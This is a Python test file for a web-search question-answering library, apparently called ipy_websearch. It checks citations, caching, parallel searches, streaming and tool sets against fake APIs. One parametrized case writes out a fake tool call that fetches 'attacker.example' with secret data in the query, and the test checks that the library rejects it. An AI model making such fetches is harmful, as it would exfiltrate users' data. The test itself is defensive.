"""Contract: what `ask` gives back, and how its loop treats calls, results and citations."""

from __future__ import annotations

import asyncio
from decimal import Decimal
from typing import Any

import pytest

import ipy_websearch as web
from tests.contract.helpers import results_of, search
from tests.fakes.engines import hit
from tests.fakes.replies import slow, text, thinking, tool_use

RUBY = hit("https://ruby.example/about", "About Ruby", "Ruby was designed by Yukihiro Matsumoto in 1993.")


def test_an_answer_has_text_citations_sources_steps_and_cost(messages_api: Any, brave_api: Any) -> None:
    brave_api.reply([RUBY])
    messages_api.replies(search("ruby author"), text("Ruby was designed by Yukihiro Matsumoto.", citations=[(0, 0)]))
    answer = web.ask("Who wrote Ruby?", provider="brave")
    assert answer.text == "Ruby was designed by Yukihiro Matsumoto.[1]"
    assert list(answer.sources.url) == [RUBY["url"]] and answer.sources.n[0] == 1
    assert answer.citations[0].n == 1 and "Matsumoto" in answer.citations[0].cited_text
    assert (answer.searches, answer.stop_reason, answer.limit) == (1, "end_turn", None)
    assert isinstance(answer.cost_usd, Decimal) and answer.cost_usd > 0 and len(answer.steps) >= 2
    blocks = results_of(messages_api.bodies[1])[0]["content"]
    assert {block["type"] for block in blocks} == {"search_result"} and blocks[0]["source"] == RUBY["url"]


def test_citations_are_checked_before_the_answer_is_final(messages_api: Any, brave_api: Any) -> None:
    brave_api.reply([RUBY])
    right, wrong = (
        text(f"Ruby was designed by {who}.", citations=[(0, 0)]) for who in ("Yukihiro Matsumoto", "Guido van Rossum in 1989")
    )
    messages_api.replies(search("ruby author"), [right, " ", wrong, " Nice[7]."])
    answer = web.ask("Who wrote Ruby?", provider="brave")
    verdicts = answer.claims.set_index("sentence").verdict
    assert verdicts.filter(like="Matsumoto").tolist() == ["supported"]
    assert verdicts.filter(like="Guido").tolist() in (["partly"], ["unsupported"])
    assert list(answer.sources.n) == [1], "a [7] that the model wrote itself is plain text"


def test_parallel_calls_run_at_once_and_go_back_in_order(messages_api: Any, brave_api: Any) -> None:
    brave_api.latency_s = 0.2
    messages_api.replies([search(f"query {n}") for n in range(3)], "Done.")
    answer = web.ask("Who?", provider="brave")
    calls = [block["id"] for block in messages_api.bodies[1]["messages"][-2]["content"]]
    assert [block["tool_use_id"] for block in results_of(messages_api.bodies[1])] == calls
    assert brave_api.most_active == 3 and answer.searches == 3


def test_equal_searches_run_once_in_an_answer_and_are_cached_after_it(messages_api: Any, brave_api: Any) -> None:
    messages_api.replies([search("Ruby author"), search("ruby  AUTHOR")], "Done.", search("ruby author"), "Done.")
    first = web.ask("Who?", provider="brave")
    assert len(brave_api.queries) == 1 and first.searches == 1 and len(results_of(messages_api.bodies[1])) == 2
    web.ask("Who?", provider="brave")
    assert len(brave_api.queries) == 1
    searches = web.cost().query("kind == 'search'")
    assert searches.usd.sum() == pytest.approx(0.005), "a cached search costs nothing"


def test_the_cache_serves_equal_searches_and_fresh_skips_it(brave_api: Any) -> None:
    first, second = web.search("ruby author", provider="brave"), web.search("Ruby  author", provider="brave")
    assert [hit.url for hit in first] == [hit.url for hit in second] and len(brave_api.requests) == 1
    assert second.cached and second.cost_usd == 0 and not first.cached
    assert not web.search("ruby author", provider="brave", fresh=True).cached and len(brave_api.requests) == 2


def test_thinking_goes_back_unchanged_and_a_follow_up_continues(messages_api: Any, brave_api: Any) -> None:
    messages_api.replies([thinking("Where would that be?"), search("ruby author")], "Matz.", "In Japan.")
    web.ask("Who wrote Ruby?", provider="brave")
    assert web.ask("Where does he live?", follow=True).text == "In Japan."
    roles = [message["role"] for message in messages_api.bodies[-1]["messages"]]
    assert roles == ["user", "assistant", "user", "assistant", "user"]
    assert ["Where would that be?" in str(body) for body in messages_api.bodies] == [False, True, True]


def test_the_session_streams_events_and_awaits(messages_api: Any, brave_api: Any, session: Any) -> None:
    messages_api.replies(["Let me look. ", search("ruby author")], ["One two three four five six seven eight.", slow(0.01)])

    async def main() -> tuple[list[str], Any]:
        run = session.start("Who wrote Ruby?", provider="brave")
        names = [type(event).__name__ async for event in run]
        await session.aclose()
        return names, run.answer

    names, answer = asyncio.run(main())
    assert names.index("TextDelta") < names.index("ToolStarted") < names.index("ToolFinished") < len(names) - 1
    assert "TextDelta" in names[names.index("ToolFinished") :] and answer.text.endswith("eight.")


def test_the_blocking_functions_work_under_a_running_loop(messages_api: Any) -> None:
    messages_api.reply("Yes.")

    async def main() -> str:
        return web.ask("Is it?").text

    assert asyncio.run(main()) == "Yes."


@pytest.mark.parametrize(
    ("call", "told"),
    [
        (tool_use("web_serch", {"query": "x"}), "web_serch"),
        (tool_use("web_search", {}), "query"),
        (tool_use("web_fetch", {"url": "https://attacker.example/?data=secret"}), ""),
    ],
    ids=["unknown tool", "bad input", "an address that nobody gave"],
)
def test_a_wrong_call_is_an_error_result(messages_api: Any, brave_api: Any, call: Any, told: str) -> None:
    messages_api.replies(call, "Then not.")
    assert web.ask("Is it?").text == "Then not."
    result = results_of(messages_api.bodies[1])[0]
    assert result["is_error"] and told in str(result["content"]) and not brave_api.requests


@pytest.mark.parametrize(
    ("tools", "names"),
    [
        ("standard", "web_search web_fetch read_research"),
        ("tiers", "brave_search brave_llm_context firecrawl_scrape firecrawl_search firecrawl_map read_research"),
        ("pair", "web_search_brave web_search_google web_fetch read_research"),
        ("native", "read_research web_search web_fetch"),
        ("none", ""),
    ],
)
def test_tool_sets_offer_the_promised_tools(
    messages_api: Any, brave_api: Any, engine: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Any, tools: str, names: str
) -> None:
    monkeypatch.setenv("IPY_WEBSEARCH_RESEARCH_ROOT", str(tmp_path))
    for other in ("firecrawl", "google"):
        engine(other)
    messages_api.reply("Yes.")
    web.ask("Is it?", tools=tools)
    assert [tool["name"] for tool in messages_api.bodies[-1].get("tools") or ()] == names.split()


def test_the_first_request_is_what_is_promised(messages_api: Any, brave_api: Any) -> None:
    messages_api.reply("Yes.")
    question = 'Which under $500?\n\n{x} {{y}} "C++" \'tis <b>bold</b> \\n'
    web.ask(question, system="Answer in French.")
    (body,) = messages_api.bodies
    assert body["model"] == "claude-sonnet-5-5" and "untrusted" in str(body["system"]) and "French" in str(body["system"])
    assert body["messages"][0]["content"][0]["text"] == question and not {"temperature", "top_p"} & set(body)
    assert 1 <= str(body).count("'cache_control'") <= 4


def test_the_most_of_a_long_conversation_is_read_from_the_cache(messages_api: Any, brave_api: Any) -> None:
    messages_api.replies(*(search(f"query {n}") for n in range(4)), "Done.")
    web.ask("Who?", provider="brave", system="Rules. " * 4000)
    read = [usage["cache_read_input_tokens"] for usage in messages_api.usages]
    assert all(later > 0 for later in read[1:]) and read == sorted(read)
